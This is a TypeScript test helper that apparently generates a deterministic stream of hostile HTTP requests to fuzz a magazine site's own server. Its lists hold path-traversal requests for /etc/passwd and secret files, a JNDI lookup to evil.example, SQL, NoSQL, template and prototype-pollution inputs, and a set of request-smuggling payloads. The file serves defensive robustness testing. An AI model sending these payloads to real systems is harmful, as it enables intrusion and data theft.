import { createRandom, type Random } from '#testing/random.ts';

const words = (text: string) => text.split(/\s+/);

const HOST = 'Host: magazine.example\r\n';
const SEED = 20_260_101;

/** Fragments known to break parsers, decoders or file systems. */
const FRAGMENTS = [
  ...words(`% %f %ff %00 %0a %0d%0a %c0%af %c1%9c %e0%80%af %ed%a0%80 %f8%80%80%80 %u0000 %25 %2525 %2f %5c %2e%2e
    .. . ... / // /// \\ ..; ; ;a=b ? ?? & = # @ : :80 [ ] [::1] { } | ^ \` " ' < > * ~ $ ! ( ) + , http://
    https://evil.example file:///etc/passwd javascript:alert(1) \x80 \xff \xc3 \xe2\x80\xae \x7f __proto__ constructor
    prototype toString \${jndi:ldap://evil.example/a} {{7*7}} $ne [$ne] NaN -1 0 1e309 9999999999999999999
    %F0%9F%92%A9 İ \u0000`),
  "' OR 1=1--",
];

const ROUTES =
  words(`/ /home /article/ /article/x/ /search /search? /search?keywords= /api/ /api/articles /api/articles?
  /api/site? /assets/ /uploads/ /healthz /readyz /currentz /error /.well-known/ /admin /graphql`);

const PARAMETERS =
  words(`keywords categories tags dossiers sort page populate populate[0] filters[title][$containsi]
  filters[$or][0][categories][name][$containsi][0] pagination[page] pagination[pageSize] __proto__
  constructor[prototype] status _q a`);

const METHODS = words(
  'POST PUT DELETE PATCH OPTIONS TRACE CONNECT PROPFIND HEAD PURGE BREW get G\x00T M-SEARCH LINK',
);

const TARGETS = [
  ...words(`// /// /% /%ff /%00 http://[ http://[::1 http://evil.example/ https://evil.example:99999/
    //evil.example/%2f.. /.//evil.example /\\evil.example /./%2e/ * ? # evil evil.example:80 /\x00 /\x80\x81 /%E0%A4%A
    http:/// http: @evil ftp://x/ /.. /../../../etc/passwd /%2e%2e%2f%2e%2e%2fetc%2fpasswd /assets/../server/main.ts
    /assets/..%2f..%2fpackage.json /assets/%2e%2e/%2e%2e/package.json /uploads/..%2f..%2fdata.db
    /uploads/%2e%2e%2f%2e%2e%2f%2e%2e%2fsecrets.json /uploads/%00.png /assets//etc/passwd
    /assets/.vite/manifest.json /uploads/ /assets/`),
  ...['', '/a b', '/\t', '/a\rb'],
];

/** Sent with valid paths. */
const HEADERS = [
  'Accept-Encoding: br;q=x, gzip;q=-1, *;q=0, ,,,;;;=',
  'Accept-Encoding: \x00',
  'If-None-Match: *',
  `If-None-Match: ${'"a",'.repeat(1500)}`,
  'If-Modified-Since: 99/99/99',
  'Range: bytes=0-0,1-1,2-2',
  'Range: bytes=-1,0-,99999999999-',
  'Range: x',
  'Expect: 100-continue',
  'Expect: x',
  'Upgrade: websocket\r\nConnection: Upgrade',
  'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__',
  'Connection: close, keep-alive, x',
  'Connection: Host',
  'Authorization: Bearer ',
  `Authorization: Bearer ${'A'.repeat(8000)}`,
  'Authorization: Basic Og==',
  'Cookie: a=b; __proto__=1',
  `Cookie: ${'c=d; '.repeat(2000)}`,
  'Host: a\r\nHost: b',
  'Host: ',
  'Host: [',
  'Host: evil.example:99999',
  'Content-Length: 0',
  'Content-Length: -1',
  'Content-Length: 99999999999999999999',
  'Content-Length: 5\r\nContent-Length: 6',
  'Transfer-Encoding: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: gzip',
  'TE: trailers',
  'X: a\r\n b',
  'X: a\nY: b',
  'X : a',
  ': a',
  'X',
  'X\x00: a',
  'X: \x01',
  'X: \x80\xff',
  'Accept: */*;q=1e999',
  'Accept-Language: \u00ff',
  'Sec-Fetch-Dest: \x7f',
  'Proxy-Connection: keep-alive',
  'Keep-Alive: timeout=99999999',
  'Trailer: Content-Length',
] as const;

/** Malformed HTTP and other protocols. */
const NOT_HTTP: readonly (string | Buffer)[] = [
  'GET /\r\n',
  'GET / HTTP/0.9\r\n\r\n',
  'GET / HTTP/1.0\r\n\r\n',
  'GET / HTTP/2.0\r\n\r\n',
  'GET / HTTP/9.9\r\n\r\n',
  'GET / HTTP/1.\r\n\r\n',
  'GET / HTP/1.1\r\n\r\n',
  'GET  / HTTP/1.1\r\n\r\n',
  ' GET / HTTP/1.1\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  '\r\n\r\n\r\n',
  '\n',
  'GET / HTTP/1.1\n\n',
  `GET / HTTP/1.1\r\n\r\n`,
  Buffer.from('160301020001000', 'hex'),
  Buffer.from('1603010200010001fc0303', 'hex'),
  Buffer.alloc(4096, 0),
  Buffer.alloc(4096, 0xff),
  'SSH-2.0-OpenSSH_9.9\r\n',
  'EHLO evil.example\r\n',
  '*1\r\n$4\r\nPING\r\n',
  '{"jsonrpc":"2.0"}\r\n\r\n',
  'USER a\r\nPASS b\r\n',
  `GET / HTTP/1.1\r\n${'\r\n'.repeat(50)}`,
];

/** A request inside another one. A second response means that the server took it for a request of its own. */
const HIDDEN = 'GET /hidden HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n';
const SMUGGLED = [
  `POST / HTTP/1.1\r\n${HOST}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `POST / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n${HIDDEN}\r\n0\r\n\r\n`,
  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding: xchunked\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Content-Length: 0\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Content-Length: ${HIDDEN.length}, 0\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Content-Length: +${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Content-Length: -1\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Content-Length: 0x10\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Content-Length:\r\n ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}X: y\rTransfer-Encoding: chunked\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}X: y\nContent-Length: 99\r\n\r\n${HIDDEN}`,
  `GET / HTTP/1.1\r\n${HOST}Content-Length\x00: 99\r\n\r\n${HIDDEN}`,
] as const;

export const smuggledRequests: readonly Buffer[] = SMUGGLED.map((text) => Buffer.from(text, 'latin1'));

/** An endless sequence of hostile requests, the same in every run. */
export function* hostileRequests(publicToken: string): Generator<Buffer, undefined> {
  const random = createRandom(SEED);
  yield* [
    ...TARGETS.map((target) => get(target)),
    ...HEADERS.map((header) => get('/', `${header}\r\n`)),
    ...METHODS.map((method) => get('/', '', method)),
    ...NOT_HTTP.map((bytes) => (Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, 'latin1'))),
    ...[2_000, 8_000, 15_900, 16_400, 60_000].map((length) => get(`/${'a'.repeat(length)}`)),
    ...[100, 1_000, 2_500].map((count) => get('/', 'X: y\r\n'.repeat(count))),
  ];

  const api = words('/api/articles /api/tags /api/home /api/x /api/articles/x');
  const files = words('/assets/ /uploads/ /assets/../ /uploads/%2e%2e/');
  const families: readonly (() => Buffer)[] = [
    () => get(random.pick(ROUTES) + fragments(random)),
    () => get(`/${fragments(random)}`),
    () => get(`/article/${fragments(random)}/${fragments(random)}`),
    () => get(`${random.pick(['/', '/home', '/nowhere', '/article/x/y'])}?${query(random)}`),
    () => get(`/search?${query(random)}`),
    () => get(`${random.pick(api)}?${query(random)}`, `Authorization: Bearer ${publicToken}\r\n`),
    () => get(random.pick(files) + fragments(random)),
    () => get(random.pick(ROUTES), `${random.pick(HEADERS)}\r\n`),
    () => get(random.pick(ROUTES), random.pick(['', 'Content-Length: 3\r\n']), random.pick(METHODS)),
    () => get(`http://${fragments(random)}/${fragments(random)}`),
  ];
  while (true) yield random.pick(families)();
}

function get(target: string, headers = '', method = 'GET'): Buffer {
  return Buffer.from(
    `${method} ${target} HTTP/1.1\r\n${/^host:/im.test(headers) ? '' : HOST}${headers}\r\n`,
    'latin1',
  );
}

function fragments(random: Random): string {
  return Array.from({ length: 1 + random.below(5) }, () =>
    random.below(3) === 0
      ? random.text('abcdefghijklmnopqrstuvwxyz0123456789-', 1 + random.below(12))
      : random.pick(FRAGMENTS),
  ).join('');
}

function query(random: Random): string {
  return Array.from(
    { length: 1 + random.below(4) },
    () => `${random.pick(PARAMETERS)}=${fragments(random)}`,
  ).join('&');
}
